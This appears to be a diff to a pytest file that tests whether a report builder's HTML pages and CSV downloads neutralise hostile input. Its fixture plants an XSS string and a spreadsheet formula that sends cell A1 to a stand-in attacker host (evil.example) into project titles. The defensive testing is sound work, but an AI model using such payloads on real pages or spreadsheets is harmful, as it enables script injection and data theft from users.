@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import base64
+import csv
+import io
 import re
 import shutil
 from pathlib import Path
@@ -9,16 +12,21 @@ from pathlib import Path
 import pandas as pd
 import pytest
 
-from analysis.build import reports
+from analysis.build import driver
+from analysis.build.config import expand
 
 ROOT = Path(__file__).resolve().parents[1]
 ATTACK = '<script>alert(1)</script> & <img src=x onerror="alert(2)">'
+# A title that a spreadsheet would run as a formula (OWASP CSV injection) if the report's CSV download kept it as is
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Details")'
+FORMULA_PROJECT = "katowice-wlacz-sie"
 CHROMIUM = shutil.which("chromium")
 
 
 @pytest.fixture(scope="module")
 def hostile_reports(tmp_path_factory):
-    """The overview, a comparison and a profile built from processed data whose titles and quotes hold markup."""
+    """The overview and a profile built from processed data whose titles and quotes hold markup, and one
+    project whose title is a spreadsheet formula."""
     base = tmp_path_factory.mktemp("hostile")
     shutil.copytree(ROOT / "notebooks", base / "notebooks")
     shutil.copytree(ROOT / "data" / "processed", base / "data" / "processed")
@@ -27,15 +35,17 @@ def hostile_reports(tmp_path_factory):
     row = projects["project_id"] == "knurow-cwis"
     for col in ("title", "title_en", "operator"):
         projects.loc[row, col] = ATTACK
+    for col in ("title", "title_en"):
+        projects.loc[projects["project_id"] == FORMULA_PROJECT, col] = FORMULA
     projects.to_csv(processed / "projects.csv", index=False, lineterminator="\n")
     figures = pd.read_csv(processed / "figures.csv", dtype=str, keep_default_na=False)
     figures.loc[figures["project_id"] == "knurow-cwis", "quote"] = ATTACK
     figures.to_csv(processed / "figures.csv", index=False, lineterminator="\n")
     out = base / "reports"
-    specs = reports.expand(base / "notebooks" / "reports.yml", processed / "projects.csv", reports_dir=out)
+    specs = expand(base / "notebooks" / "reports.yml", processed / "projects.csv", reports_dir=out)
     chosen = [s for s in specs if s.name in ("overview", "pl/overview", "projects/knurow-cwis")]
-    records = [reports.run(s, reports_dir=out) for s in chosen]
-    reports.write_index(records, out)
+    result = driver.build(chosen, reports_dir=out, processed_dir=processed, jobs=1, progress=False)  # and the index
+    assert not result.failed, result.failed
     return out, [s.output for s in chosen] + [out / "index.html"]
 
 
@@ -79,3 +89,16 @@ def test_reports_hold_no_machine_paths_tracebacks_or_environment(hostile_reports
     for page in pages:
         found = leaks.search(page.read_text(encoding="utf-8"))
         assert not found, f"{page.name}: {found.group(0)!r}"
+
+
+@pytest.mark.slow
+def test_csv_downloads_hold_no_formula_a_spreadsheet_would_run(hostile_reports):
+    """The key table's CSV (a data: link in the page) prefixes the formula title with a quote (OWASP)."""
+    out, pages = hostile_reports
+    links = re.compile(r'href="data:text/csv;charset=utf-8;base64,([A-Za-z0-9+/=]+)"')
+    tables = [base64.b64decode(m).decode("utf-8-sig") for page in pages
+              for m in links.findall(page.read_text(encoding="utf-8"))]
+    assert tables, "no CSV download in the reports"
+    cells = [cell for text in tables for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert "'" + FORMULA in cells, "the formula title is not in any download (so this test would prove nothing)"
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
